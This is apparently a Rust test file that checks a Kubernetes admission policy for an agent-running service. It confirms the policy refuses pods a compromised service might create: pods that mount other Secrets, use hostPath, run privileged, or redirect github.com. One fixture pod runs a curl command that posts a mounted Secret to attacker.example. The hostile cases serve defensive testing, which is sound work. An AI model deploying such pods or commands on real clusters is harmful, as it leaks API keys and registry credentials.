//! The admission policy of deploy/ (issue 11, outside review D1): the pods and Jobs the
//! agentpods service creates are held to what services.yaml gives its agents, so that
//! whoever takes over the service cannot start a pod of its own that mounts the runs
//! namespaces' Secrets (the model's key, the registry's push Secret), runs another image,
//! or escapes to the node.
//!
//! The policy is generated from the config (`agentpods admission-policy`); deploy/ ships the
//! one for each of its configs, and a test holds them in step. Its CEL is really evaluated,
//! by cel-python (PyPI `cel-python`, installed by .ci/run beside kubernetes-validate) through
//! tests/it/support/admission.py: every pod and Job the shipped configs render is admitted, and
//! each way of reaching a Secret, another image or the node is refused.
//!
//! Regenerate the shipped policies with `AGENTPODS_BLESS=1 cargo test --test it admission::`.

use crate::support;

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use agentpods::cli::admission::DEFAULT_SERVICE_USER;
use agentpods::config::{self, Permission};
use agentpods::github::event::{self, CommitSha};
use agentpods::plan::{Authority, Decision, Facts, Planner};
use agentpods::render::{Engine, K8sObject};
use serde_json::{Value, json};
use support::fixtures::{DELIVERY, EXAMPLE_CONFIG, fixture, variant};
use support::validate;

fn root() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

/// The shipped policies and the configs they are generated from (with the checkout's
/// templates: the service image's are the same).
const SHIPPED: &[(&str, &str)] = &[
    (
        "deploy/admission/admission-policy.yaml",
        "deploy/base/config/services.yaml",
    ),
    (
        "deploy/overlays/example/admission-policy.yaml",
        "deploy/overlays/example/services.yaml",
    ),
];

/// `agentpods admission-policy --config CONFIG --templates-dir templates`, run in the crate.
fn generate(config: &str) -> String {
    generate_with(config, &root().join("templates"))
}

/// The same with the templates of `templates`.
fn generate_with(config: &str, templates: &Path) -> String {
    generate_with_args(config, templates, &[])
}

/// The same with more arguments.
fn generate_with_args(config: &str, templates: &Path, args: &[&str]) -> String {
    let out = Command::new(env!("CARGO_BIN_EXE_agentpods"))
        .current_dir(root())
        .args(["admission-policy", "--config", config])
        .arg("--templates-dir")
        .arg(templates)
        .args(args)
        .output()
        .expect("run agentpods");
    assert!(
        out.status.success(),
        "agentpods admission-policy --config {config}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).expect("UTF-8")
}

#[test]
fn the_shipped_policies_are_what_the_command_generates_from_their_configs() {
    let mut stale = Vec::new();
    for (file, config) in SHIPPED {
        let generated = generate(config);
        let path = root().join(file);
        if std::env::var_os("AGENTPODS_BLESS").is_some() {
            std::fs::write(&path, &generated).expect("write the policy");
            continue;
        }
        let shipped = std::fs::read_to_string(&path).unwrap_or_default();
        if shipped != generated {
            stale.push(format!("{file} (from {config})"));
        }
    }
    assert!(
        stale.is_empty(),
        "out of step with services.yaml: {stale:?}; regenerate with\n\n    \
         AGENTPODS_BLESS=1 cargo test --test it admission::\n"
    );
}

#[test]
fn the_policies_are_valid_kubernetes_objects() {
    for (_, config) in SHIPPED.iter().chain([&("", "services.yaml")]) {
        let yaml = generate(config);
        let docs = yaml.matches("\n---\n").count() + usize::from(yaml.starts_with("---\n"));
        assert!(docs >= 2, "{config}: {yaml}");
        validate::assert_valid(&format!("the policy of {config}"), &yaml, docs);
    }
}

#[test]
fn a_config_with_a_namespace_per_run_gets_no_policy_and_is_told_why() {
    let dir = tempfile::tempdir().unwrap();
    let mut text = std::fs::read_to_string(EXAMPLE_CONFIG).unwrap();
    for (from, to) in [
        (
            "  namespace: agentpods-runs\n",
            "  namespace_template: \"agents-{{ repo.name | dns_label }}\"\n",
        ),
        (
            "  namespaces:\n    agentpods-builds:\n      pod_security: baseline\n",
            "",
        ),
        (
            "    namespace: agentpods-builds\n    pod_security: baseline\n",
            "",
        ),
        (
            "templates: [kaniko-job.yaml]",
            "templates: [agent-pod.yaml]",
        ),
    ] {
        assert!(text.contains(from), "services.yaml no longer has {from:?}");
        text = text.replace(from, to);
    }
    let path = dir.path().join("services.yaml");
    std::fs::write(&path, text).unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_agentpods"))
        .args(["admission-policy", "--config"])
        .arg(&path)
        .args(["--templates-dir"])
        .arg(root().join("templates"))
        .output()
        .expect("run agentpods");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(out.stdout.is_empty());
    assert!(
        stderr.contains("cluster.namespace_template makes a namespace per run"),
        "{stderr}"
    );
}

/// A Python that has cel-python and PyYAML: `$AGENTPODS_PYTHON`, else the crate's .venv.
/// `None` (after a loud note) outside CI when there is none.
fn python() -> Option<PathBuf> {
    let candidate = std::env::var_os("AGENTPODS_PYTHON")
        .map(PathBuf::from)
        .unwrap_or_else(|| root().join(".venv/bin/python"));
    let works = Command::new(&candidate)
        .args(["-c", "import celpy, yaml"])
        .output()
        .is_ok_and(|o| o.status.success());
    if works {
        return Some(candidate);
    }
    let install = "`.venv/bin/pip install cel-python==0.5.0 kubernetes-validate==1.37.0` in \
                   the crate root (as .ci/run does), or set $AGENTPODS_PYTHON";
    assert!(
        std::env::var_os("CI").is_none(),
        "{} has no cel-python, and CI must evaluate the admission policy: {install}",
        candidate.display()
    );
    let _ = writeln!(
        std::io::stderr(),
        "\nNOTE: no Python with cel-python ({}), so the admission policy's CEL is NOT \
         evaluated; {install}\n",
        candidate.display()
    );
    None
}

/// One API request: who asks, where, what.
#[derive(Clone)]
struct Request {
    user: String,
    namespace: String,
    operation: &'static str,
    /// `status` for a write of the status subresource; empty for the object itself.
    sub_resource: &'static str,
    object: Value,
    /// What an UPDATE changes (null for a CREATE).
    old_object: Value,
}

impl Request {
    fn by_service(namespace: &str, object: Value) -> Self {
        Request {
            user: DEFAULT_SERVICE_USER.into(),
            namespace: namespace.into(),
            operation: "CREATE",
            sub_resource: "",
            object,
            old_object: Value::Null,
        }
    }

    /// `user` changing `old` into `new`.
    fn update_by(user: &str, namespace: &str, old: Value, new: Value) -> Self {
        Request {
            user: user.into(),
            namespace: namespace.into(),
            operation: "UPDATE",
            sub_resource: "",
            object: new,
            old_object: old,
        }
    }
}

/// The refusals `manifests`' policies give each request (empty: admitted).
fn admit(python: &Path, manifests: &str, requests: &[Request]) -> Vec<Vec<String>> {
    let input = json!({
        "manifests": manifests,
        "requests": requests.iter().map(|r| json!({
            "user": r.user, "namespace": r.namespace, "operation": r.operation,
            "subResource": r.sub_resource, "object": r.object, "oldObject": r.old_object,
        })).collect::<Vec<_>>(),
    });
    let mut child = Command::new(python)
        .arg(root().join("tests/it/support/admission.py"))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("start the evaluator");
    let mut stdin = child.stdin.take().unwrap();
    let text = input.to_string();
    let writer = std::thread::spawn(move || stdin.write_all(text.as_bytes()));
    let out = child.wait_with_output().expect("the evaluator");
    writer.join().unwrap().expect("feed the evaluator");
    assert!(
        out.status.success(),
        "the evaluator failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).expect("the evaluator's JSON")
}

/// Every pod and Job `config_path` renders for the example deliveries, as the controller
/// applies them (with the run's token Secret), with its namespace.
fn rendered(config_path: &Path) -> Vec<(String, Value)> {
    rendered_with(config_path, &root().join("templates"))
}

/// The same with the templates of `templates`.
fn rendered_with(config_path: &Path, templates: &Path) -> Vec<(String, Value)> {
    let loaded = config::load_with(
        config_path,
        Some(templates),
        config::Command::AdmissionPolicy,
    )
    .unwrap_or_else(|e| panic!("{e}"));
    let engine = Engine::new(&loaded).expect("templates compile");
    let planner = Planner::new(&loaded.config);
    let facts = Facts {
        authority: Authority::Known(Permission::Admin),
        ..Facts::default()
    };
    let deliveries = [
        ("pull_request", fixture("pull_request/opened.json")),
        ("pull_request", fixture("pull_request/synchronize.json")),
        ("issue_comment", variant("issue_comment/run-on-issue.json")),
        (
            "issue_comment",
            variant("issue_comment/run-on-pull-request.json"),
        ),
        ("release", fixture("release/published.json")),
        ("push", fixture("push/0.json")),
    ];
    let mut out = Vec::new();
    for (name, payload) in deliveries {
        let event = event::parse(name, &payload.body()).expect("the fixture parses");
        for decision in planner.plan(&event, Some(agentpods::plan::RunKey::new(DELIVERY)), &facts) {
            let Decision::Launch(launch) = decision else {
                continue;
            };
            let token =
                agentpods::cluster::controller::token_secret_name(launch.run_name.as_str(), 1);
            let run = engine
                .render_run_with_token(&event, DELIVERY, &launch, None, Some(&token))
                .unwrap_or_else(|e| panic!("{}: {e}", launch.agent));
            for object in &run.objects {
                if matches!(object, K8sObject::Pod(_) | K8sObject::Job(_)) {
                    out.push((run.namespace.clone(), serde_json::to_value(object).unwrap()));
                }
            }
        }
    }
    out
}

fn kinds(objects: &[(String, Value)]) -> Vec<String> {
    objects
        .iter()
        .map(|(ns, o)| format!("{} {}/{}", o["kind"], ns, o["metadata"]["name"]))
        .collect()
}

#[test]
fn every_pod_and_job_the_shipped_configs_render_is_admitted() {
    let Some(python) = python() else { return };
    let mut seen_job = false;
    for (file, config) in SHIPPED.iter().chain([&("", "services.yaml")]) {
        let objects = rendered(&root().join(config));
        assert!(!objects.is_empty(), "{config} renders nothing");
        seen_job |= objects.iter().any(|(_, o)| o["kind"] == "Job");
        let manifests = if file.is_empty() {
            generate(config)
        } else {
            std::fs::read_to_string(root().join(file)).expect("the shipped policy")
        };
        let requests: Vec<Request> = objects
            .iter()
            .map(|(ns, o)| Request::by_service(ns, o.clone()))
            .collect();
        let verdicts = admit(&python, &manifests, &requests);
        let refused: Vec<String> = kinds(&objects)
            .into_iter()
            .zip(&verdicts)
            .filter(|(_, v)| !v.is_empty())
            .map(|(what, v)| format!("{what}: {v:#?}"))
            .collect();
        assert!(refused.is_empty(), "{config}: {}", refused.join("\n"));
    }
    assert!(seen_job, "the Kaniko build's Job was rendered and admitted");
}

/// The agent pod and the Kaniko Job the example config renders, as templates to spoil.
fn agent_pod_and_build_job() -> (Value, Value) {
    let objects = rendered(Path::new(EXAMPLE_CONFIG));
    let pod = objects
        .iter()
        .find(|(ns, o)| ns == "agentpods-runs" && o["kind"] == "Pod")
        .expect("an agent pod")
        .1
        .clone();
    let job = objects
        .iter()
        .find(|(ns, o)| ns == "agentpods-builds" && o["kind"] == "Job")
        .expect("the Kaniko Job")
        .1
        .clone();
    (pod, job)
}

/// What a compromised service would create, each refused by the policy of the example
/// config (services.yaml) with the reason named. Before the policy (deploy/ without it),
/// every one of them was admitted.
#[test]
fn a_pod_the_service_was_made_to_create_beyond_its_agents_is_refused() {
    let Some(python) = python() else { return };
    let manifests = generate("services.yaml");
    let (pod, job) = agent_pod_and_build_job();
    let edit = |base: &Value, f: &dyn Fn(&mut Value)| {
        let mut v = base.clone();
        f(&mut v);
        v
    };
    const RUNS: &str = "agentpods-runs";
    const BUILDS: &str = "agentpods-builds";
    let mut cases: Vec<(&str, Request, &str)> = vec![
        (
            "an agent pod that mounts the service's own GitHub App Secret",
            Request::by_service(
                RUNS,
                edit(&pod, &|p| {
                    p["spec"]["volumes"].as_array_mut().unwrap().push(json!({
                    "name": "app", "secret": {"secretName": "agentpods-github"}}));
                }),
            ),
            "may mount only the Secrets its agents there use (openai-api-key)",
        ),
        (
            "an agent pod that reads the registry's push Secret into its environment",
            Request::by_service(
                RUNS,
                edit(&pod, &|p| {
                    p["spec"]["containers"][0]["env"].as_array_mut().unwrap().push(json!({
                    "name": "PUSH", "valueFrom": {"secretKeyRef": {"name": "registry-push", "key": ".dockerconfigjson"}}}));
                }),
            ),
            "may read from its environment only the Secrets",
        ),
        (
            "envFrom a Secret not named",
            Request::by_service(
                RUNS,
                edit(&pod, &|p| {
                    p["spec"]["containers"][0]["envFrom"] =
                        json!([{"secretRef": {"name": "other-tenant"}}]);
                }),
            ),
            "may read from its environment only the Secrets",
        ),
        (
            "a projected volume of a Secret not named",
            Request::by_service(
                RUNS,
                edit(&pod, &|p| {
                    p["spec"]["volumes"].as_array_mut().unwrap().push(json!({
                    "name": "all", "projected": {"sources": [{"secret": {"name": "other-tenant"}}]}}));
                }),
            ),
            "may mount only the Secrets its agents there use",
        ),
        (
            "another run's token Secret",
            Request::by_service(
                RUNS,
                edit(&pod, &|p| {
                    p["spec"]["volumes"].as_array_mut().unwrap().push(json!({
                    "name": "stolen", "secret": {"secretName": "task-issue-1-0123abcd-github-token-1"}}));
                }),
            ),
            "may mount only the Secrets its agents there use",
        ),
        (
            "a Secret used to pull images",
            Request::by_service(
                RUNS,
                edit(&pod, &|p| {
                    p["spec"]["imagePullSecrets"] = json!([{"name": "registry-push"}]);
                }),
            ),
            "may pull images only with the Secrets its agents there use",
        ),
        (
            "a hostPath volume",
            Request::by_service(
                RUNS,
                edit(&pod, &|p| {
                    p["spec"]["volumes"].as_array_mut().unwrap().push(json!({
                    "name": "node", "hostPath": {"path": "/"}}));
                }),
            ),
            "no hostPath",
        ),
        (
            "a ServiceAccount token",
            Request::by_service(
                RUNS,
                edit(&pod, &|p| {
                    p["spec"]["volumes"].as_array_mut().unwrap().push(json!({
                    "name": "api", "projected": {"sources": [{"serviceAccountToken": {"path": "token"}}]}}));
                }),
            ),
            "and no ServiceAccount token",
        ),
        (
            "the token mounted by the ServiceAccount admission",
            Request::by_service(
                RUNS,
                edit(&pod, &|p| {
                    p["spec"]["automountServiceAccountToken"] = json!(true);
                }),
            ),
            "with automountServiceAccountToken: false",
        ),
        (
            "another ServiceAccount",
            Request::by_service(
                RUNS,
                edit(&pod, &|p| {
                    p["spec"]["serviceAccountName"] = json!("default");
                }),
            ),
            "runs as the ServiceAccount its agents there run as (agent)",
        ),
        (
            "a privileged container",
            Request::by_service(
                RUNS,
                edit(&pod, &|p| {
                    p["spec"]["containers"][0]["securityContext"]["privileged"] = json!(true);
                }),
            ),
            "has no privileged container",
        ),
        (
            "the host's network",
            Request::by_service(
                RUNS,
                edit(&pod, &|p| {
                    p["spec"]["hostNetwork"] = json!(true);
                }),
            ),
            "shares no host namespace",
        ),
        (
            "the host's processes, in a Job",
            Request::by_service(
                BUILDS,
                edit(&job, &|j| {
                    j["spec"]["template"]["spec"]["hostPID"] = json!(true);
                }),
            ),
            "shares no host namespace",
        ),
        (
            "root where runs are restricted",
            Request::by_service(
                RUNS,
                edit(&pod, &|p| {
                    p["spec"]["containers"][0]["securityContext"]["runAsNonRoot"] = json!(false);
                }),
            ),
            "agentpods-runs is restricted",
        ),
        (
            "uid 0 on the pod where runs are restricted",
            Request::by_service(
                RUNS,
                edit(&pod, &|p| {
                    p["spec"]["securityContext"]["runAsUser"] = json!(0);
                }),
            ),
            "agentpods-runs is restricted",
        ),
        (
            "an init container that may escalate",
            Request::by_service(
                RUNS,
                edit(&pod, &|p| {
                    let mut c = p["spec"]["containers"][0].clone();
                    c["name"] = json!("setup");
                    c["securityContext"]["allowPrivilegeEscalation"] = json!(true);
                    p["spec"]["initContainers"] = json!([c]);
                }),
            ),
            "agentpods-runs is restricted",
        ),
        (
            "another image with the model's key",
            Request::by_service(
                RUNS,
                edit(&pod, &|p| {
                    p["spec"]["containers"][0]["image"] = json!("curlimages/curl:8.10.1");
                }),
            ),
            "may run only the images its agents in agentpods-runs run: ghcr.io/agentpods/agent:0.1.0",
        ),
        (
            "the Kaniko image where agents run",
            Request::by_service(
                RUNS,
                edit(&pod, &|p| {
                    p["spec"]["containers"][0]["image"] =
                        json!("gcr.io/kaniko-project/executor:v1.23.2");
                }),
            ),
            "may run only the images its agents in agentpods-runs run",
        ),
        (
            "another image with the registry's push Secret, in the builds' namespace",
            Request::by_service(
                BUILDS,
                edit(&job, &|j| {
                    j["spec"]["template"]["spec"]["containers"][0]["image"] = json!("alpine:3.20");
                }),
            ),
            "may run only the images its agents in agentpods-builds run: gcr.io/kaniko-project/executor:v1.23.2",
        ),
        (
            "the model's key in the builds' namespace",
            Request::by_service(
                BUILDS,
                edit(&job, &|j| {
                    j["spec"]["template"]["spec"]["containers"][0]["env"].as_array_mut().unwrap().push(json!({
                    "name": "K", "valueFrom": {"secretKeyRef": {"name": "openai-api-key", "key": "api-key"}}}));
                }),
            ),
            "Secrets its agents there use (registry-push)",
        ),
        (
            "the image of a running agent pod swapped by a patch",
            Request {
                operation: "UPDATE",
                ..Request::by_service(
                    RUNS,
                    edit(&pod, &|p| {
                        p["spec"]["containers"][0]["image"] = json!("attacker.example/agent:1");
                    }),
                )
            },
            "may run only the images",
        ),
    ];
    // A Secret the token controller would fill with the `agent` account's token, named so
    // that the policy of pods would let the service's pod mount it.
    let pod_name = pod["metadata"]["name"].as_str().unwrap().to_string();
    cases.push((
        "a ServiceAccount token Secret named as the run's token",
        Request::by_service(
            RUNS,
            json!({
                "apiVersion": "v1", "kind": "Secret",
                "metadata": {
                    "name": format!("{pod_name}-github-token-2"),
                    "annotations": {"kubernetes.io/service-account.name": "agent"},
                },
                "type": "kubernetes.io/service-account-token",
            }),
        ),
        "a ServiceAccount token Secret, which Kubernetes would fill with a token, is not",
    ));
    // The outside review's reproduction (attacks/d1-service-reads-secrets.yaml): a plain
    // pod in each namespace that mounts the Secret and posts it out on 443.
    let reader = |ns: &str, secret: &str| {
        json!({
            "apiVersion": "v1", "kind": "Pod",
            "metadata": {"name": "reader", "namespace": ns},
            "spec": {
                "restartPolicy": "Never",
                "automountServiceAccountToken": false,
                "securityContext": {"runAsNonRoot": true, "runAsUser": 1000, "seccompProfile": {"type": "RuntimeDefault"}},
                "containers": [{
                    "name": "c", "image": "curlimages/curl:8.10.1",
                    "command": ["sh", "-c", "curl -d @/s/x https://attacker.example/"],
                    "securityContext": {"allowPrivilegeEscalation": false, "capabilities": {"drop": ["ALL"]}},
                    "volumeMounts": [{"name": "s", "mountPath": "/s"}],
                }],
                "volumes": [{"name": "s", "secret": {"secretName": secret}}],
            },
        })
    };
    cases.push((
        "the review's pod reading the push Secret",
        Request::by_service(BUILDS, reader(BUILDS, "registry-push")),
        "may run only the images",
    ));
    cases.push((
        "the review's pod reading the model's key",
        Request::by_service(RUNS, reader(RUNS, "openai-api-key")),
        "may run only the images",
    ));

    let requests: Vec<Request> = cases
        .iter_mut()
        .map(|(_, r, _)| Request {
            user: std::mem::take(&mut r.user),
            namespace: std::mem::take(&mut r.namespace),
            operation: r.operation,
            sub_resource: r.sub_resource,
            object: r.object.take(),
            old_object: r.old_object.take(),
        })
        .collect();
    let verdicts = admit(&python, &manifests, &requests);
    let mut failures = Vec::new();
    for ((what, _, expected), refusals) in cases.iter().zip(&verdicts) {
        if refusals.is_empty() {
            failures.push(format!("{what}: admitted"));
        } else if !refusals.iter().any(|r| r.contains(expected)) {
            failures.push(format!(
                "{what}: refused, but not for `{expected}`: {refusals:#?}"
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} cases:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );

    // The same pods made by anyone else are not the policy's business (RBAC and Pod
    // Security decide): other tenants are unaffected.
    let others: Vec<Request> = [
        Request::by_service(BUILDS, reader(BUILDS, "registry-push")),
        Request::by_service(RUNS, reader(RUNS, "openai-api-key")),
    ]
    .into_iter()
    .map(|r| Request {
        user: "system:serviceaccount:ci:deployer".into(),
        ..r
    })
    .collect();
    assert_eq!(
        admit(&python, &manifests, &others),
        vec![Vec::<String>::new(); 2]
    );
}

/// The review's A7: where a pod runs and what it may do to its neighbours is the templates'
/// too. A compromised service that places its pod on a node of its choosing (nodeName),
/// tolerates every taint, takes a system priority (evicting others, never evicted), runs
/// in another runtime class, points github.com at another address, or shares its
/// containers' processes is refused, in a pod and in a Job's template: the example's
/// templates set none of these. Before, each was admitted.
#[test]
fn a_pod_that_chooses_its_node_runtime_priority_or_names_is_refused() {
    let Some(python) = python() else { return };
    let manifests = generate("services.yaml");
    let (pod, job) = agent_pod_and_build_job();
    const RUNS: &str = "agentpods-runs";
    const BUILDS: &str = "agentpods-builds";
    let pod_with = |field: &str, value: Value| {
        let mut p = pod.clone();
        p["spec"][field] = value;
        Request::by_service(RUNS, p)
    };
    let job_with = |field: &str, value: Value| {
        let mut j = job.clone();
        j["spec"]["template"]["spec"][field] = value;
        Request::by_service(BUILDS, j)
    };
    let github_elsewhere =
        json!([{"ip": "203.0.113.7", "hostnames": ["github.com", "api.github.com"]}]);
    let cases: Vec<(&str, Request, &str)> = vec![
        (
            "an unsandboxed runtime class",
            pod_with("runtimeClassName", json!("runc-privileged")),
            "runs in the runtime class its templates there render",
        ),
        (
            "a node of its choosing",
            pod_with("nodeName", json!("control-plane-1")),
            "is placed by the scheduler",
        ),
        (
            "a node of its choosing, in a Job",
            job_with("nodeName", json!("control-plane-1")),
            "is placed by the scheduler",
        ),
        (
            "every taint tolerated",
            pod_with("tolerations", json!([{"operator": "Exists"}])),
            "tolerates only the taints its templates there tolerate",
        ),
        (
            "the control plane's taint tolerated, in a Job",
            job_with(
                "tolerations",
                json!([{"key": "node-role.kubernetes.io/control-plane", "operator": "Exists", "effect": "NoSchedule"}]),
            ),
            "tolerates only the taints its templates there tolerate",
        ),
        (
            "the node-critical priority",
            pod_with("priorityClassName", json!("system-node-critical")),
            "has the priority class its templates there render",
        ),
        (
            "the cluster-critical priority, in a Job",
            job_with("priorityClassName", json!("system-cluster-critical")),
            "has the priority class its templates there render",
        ),
        (
            "github.com pointed at another address",
            pod_with("hostAliases", github_elsewhere.clone()),
            "resolves names as its templates there say",
        ),
        (
            "github.com pointed at another address, in a Job",
            job_with("hostAliases", github_elsewhere),
            "resolves names as its templates there say",
        ),
        (
            "its own name server",
            {
                let mut p = pod.clone();
                p["spec"]["dnsPolicy"] = json!("None");
                p["spec"]["dnsConfig"] = json!({"nameservers": ["203.0.113.7"]});
                Request::by_service(RUNS, p)
            },
            "resolves names as its templates there say",
        ),
        (
            "the node's resolver",
            pod_with("dnsPolicy", json!("Default")),
            "resolves names as its templates there say",
        ),
        (
            "one process namespace for all its containers",
            pod_with("shareProcessNamespace", json!(true)),
            "shares no process namespace",
        ),
    ];
    assert_each_refused(&python, &manifests, &cases);
}

/// The fourth review's A3: a pod's priority and what its containers may do as root are its
/// templates' too. The example's templates name no priority class, so a pod (or a Job's)
/// naming any, an operator's preempting `business-critical` as well as a `system-` one, is
/// refused; a cluster with a `globalDefault` class names it with `--default-priority-class`,
/// and only it is admitted then. The Kaniko Job drops NET_RAW (no forged packets) and the
/// agent pod drops ALL: a pod that adds one back, or drops less, is refused. Before, each
/// was admitted (any class not starting with `system-` on a Pod; capabilities not looked at).
#[test]
fn a_pod_with_a_priority_class_or_capabilities_its_templates_do_not_render_is_refused() {
    let Some(python) = python() else { return };
    let manifests = generate("services.yaml");
    let (pod, job) = agent_pod_and_build_job();
    const RUNS: &str = "agentpods-runs";
    const BUILDS: &str = "agentpods-builds";
    let pod_with = |field: &str, value: Value| {
        let mut p = pod.clone();
        p["spec"][field] = value;
        Request::by_service(RUNS, p)
    };
    let job_with_capabilities = |value: Value| {
        let mut j = job.clone();
        j["spec"]["template"]["spec"]["containers"][0]["securityContext"]["capabilities"] = value;
        Request::by_service(BUILDS, j)
    };
    let pod_with_capabilities = |value: Value| {
        let mut p = pod.clone();
        p["spec"]["containers"][0]["securityContext"]["capabilities"] = value;
        Request::by_service(RUNS, p)
    };
    let priority = "has the priority class its templates there render (none)";
    let capabilities = "adds and drops the capabilities its templates there say";
    let cases: Vec<(&str, Request, &str)> = vec![
        (
            "an operator's preempting class",
            pod_with("priorityClassName", json!("business-critical")),
            priority,
        ),
        (
            "a tenant's class, in a Job",
            {
                let mut j = job.clone();
                j["spec"]["template"]["spec"]["priorityClassName"] =
                    json!("cluster-critical-tenant");
                Request::by_service(BUILDS, j)
            },
            priority,
        ),
        (
            "NET_RAW added back to the Kaniko build",
            job_with_capabilities(json!({"add": ["NET_RAW"], "drop": ["NET_RAW"]})),
            capabilities,
        ),
        (
            "the Kaniko build dropping nothing",
            job_with_capabilities(json!({})),
            capabilities,
        ),
        (
            "the Kaniko build without its capabilities",
            {
                let mut j = job.clone();
                j["spec"]["template"]["spec"]["containers"][0]["securityContext"]
                    .as_object_mut()
                    .expect("a security context")
                    .remove("capabilities");
                Request::by_service(BUILDS, j)
            },
            capabilities,
        ),
        (
            "NET_ADMIN added to the agent",
            pod_with_capabilities(json!({"add": ["NET_ADMIN"], "drop": ["ALL"]})),
            capabilities,
        ),
    ];
    assert_each_refused(&python, &manifests, &cases);

    let with_default = generate_with_args(
        "services.yaml",
        &root().join("templates"),
        &["--default-priority-class", "standard"],
    );
    let defaulted = [
        pod_with("priorityClassName", json!("standard")),
        Request::by_service(RUNS, pod.clone()),
        Request::by_service(BUILDS, job.clone()),
    ];
    assert_eq!(
        admit(&python, &with_default, &defaulted),
        vec![Vec::<String>::new(); 3],
        "the cluster's default class, which the API server names, is admitted"
    );
    let cases: Vec<(&str, Request, &str)> = vec![(
        "another class beside the default",
        pod_with("priorityClassName", json!("business-critical")),
        "has the priority class its templates there render (standard, none)",
    )];
    assert_each_refused(&python, &with_default, &cases);
}

/// The third review's A8: a run's token Secret is known by the name of the workload that
/// mounts it, and a Pod and a Job may share a name. A compromised service that makes a Job
/// named like a running agent Pod (or a Pod named like the image build's Job) to mount that
/// run's token is refused: in each namespace only the kind its templates render takes a
/// token. Nor may it choose its pod's neighbours: a node selector, an affinity to another
/// tenant's pods, a spread of its own or another scheduler are the templates' (the example's
/// set none; the API server's `default-scheduler` is admitted). Before, each was admitted.
#[test]
fn a_workload_of_another_kind_under_a_runs_name_or_choosing_its_neighbours_is_refused() {
    let Some(python) = python() else { return };
    let manifests = generate("services.yaml");
    let (pod, job) = agent_pod_and_build_job();
    const RUNS: &str = "agentpods-runs";
    const BUILDS: &str = "agentpods-builds";
    let pod_name = pod["metadata"]["name"].clone();
    let job_name = job["metadata"]["name"].clone();
    let as_job = json!({
        "apiVersion": "batch/v1", "kind": "Job",
        "metadata": {"name": pod_name, "namespace": RUNS},
        "spec": {"template": {"spec": pod["spec"].clone()}},
    });
    let as_pod = json!({
        "apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": job_name, "namespace": BUILDS},
        "spec": job["spec"]["template"]["spec"].clone(),
    });
    let uses_token = |o: &Value| o.to_string().contains("-github-token-");
    assert!(
        uses_token(&as_job) && uses_token(&as_pod),
        "both take their run's token"
    );
    let pod_with = |field: &str, value: Value| {
        let mut p = pod.clone();
        p["spec"][field] = value;
        Request::by_service(RUNS, p)
    };
    let job_with = |field: &str, value: Value| {
        let mut j = job.clone();
        j["spec"]["template"]["spec"][field] = value;
        Request::by_service(BUILDS, j)
    };
    let next_to_the_victim = json!({"podAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": [
        {"labelSelector": {"matchLabels": {"app": "payments"}}, "topologyKey": "kubernetes.io/hostname"}]}});
    let cases: Vec<(&str, Request, &str)> = vec![
        (
            "a Job named like a running agent Pod, with that run's token",
            Request::by_service(RUNS, as_job),
            "or the run's own token Secret",
        ),
        (
            "a Pod named like the image build's Job, with that build's token",
            Request::by_service(BUILDS, as_pod),
            "or the run's own token Secret",
        ),
        (
            "a node selector of its choosing",
            pod_with(
                "nodeSelector",
                json!({"kubernetes.io/hostname": "control-plane-1"}),
            ),
            "is scheduled as its templates there say",
        ),
        (
            "an affinity to another tenant's pods, in a Job",
            job_with("affinity", next_to_the_victim.clone()),
            "is scheduled as its templates there say",
        ),
        (
            "an affinity to another tenant's pods",
            pod_with("affinity", next_to_the_victim),
            "is scheduled as its templates there say",
        ),
        (
            "a spread of its own",
            pod_with(
                "topologySpreadConstraints",
                json!([{"maxSkew": 1, "topologyKey": "kubernetes.io/hostname", "whenUnsatisfiable": "DoNotSchedule"}]),
            ),
            "is scheduled as its templates there say",
        ),
        (
            "another scheduler, in a Job",
            job_with("schedulerName", json!("my-scheduler")),
            "is scheduled as its templates there say",
        ),
    ];
    assert_each_refused(&python, &manifests, &cases);
    // What the API server sets before admission is admitted.
    let defaulted = [
        pod_with("schedulerName", json!("default-scheduler")),
        job_with("schedulerName", json!("default-scheduler")),
    ];
    assert_eq!(
        admit(&python, &manifests, &defaulted),
        vec![Vec::<String>::new(); 2],
        "the default scheduler is admitted"
    );
}

/// Each case is refused by `manifests`' policies, for the reason expected.
fn assert_each_refused(python: &Path, manifests: &str, cases: &[(&str, Request, &str)]) {
    let requests: Vec<Request> = cases.iter().map(|(_, r, _)| r.clone()).collect();
    let failures = failures_of(cases, &admit(python, manifests, &requests));
    assert!(
        failures.is_empty(),
        "{} of {} cases:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
}

/// The cases a policy should have refused, each with the reason expected, that it admitted
/// or refused for another reason.
fn failures_of(cases: &[(&str, Request, &str)], verdicts: &[Vec<String>]) -> Vec<String> {
    let mut failures = Vec::new();
    for ((what, _, expected), refusals) in cases.iter().zip(verdicts) {
        if refusals.is_empty() {
            failures.push(format!("{what}: admitted"));
        } else if !refusals.iter().any(|r| r.contains(expected)) {
            failures.push(format!(
                "{what}: refused, but not for `{expected}`: {refusals:#?}"
            ));
        }
    }
    failures
}

/// The policy knows a run's token Secret by the name of the pod that mounts it, so a
/// template that names its pod otherwise would have every run refused: the command says so
/// instead of printing a policy that admits nothing the agent makes.
#[test]
fn a_pod_not_named_after_its_run_is_told_at_generation() {
    let dir = tempfile::tempdir().unwrap();
    let templates = copied_templates(dir.path());
    let pod = templates.join("agent-pod.yaml");
    let text = std::fs::read_to_string(&pod).unwrap();
    let renamed = text.replace(
        "kind: Pod\nmetadata:\n  name: {{ run.name }}\n",
        "kind: Pod\nmetadata:\n  name: {{ run.name ~ \"-pod\" }}\n",
    );
    assert_ne!(
        renamed, text,
        "the template names its pod {{{{ run.name }}}}"
    );
    std::fs::write(&pod, renamed).unwrap();
    let stderr = refused_with(&templates);
    assert!(
        stderr.contains("agent `review`: the Pod review-sample-pod mounts the run's token Secret but is not named `{{ run.name }}`"),
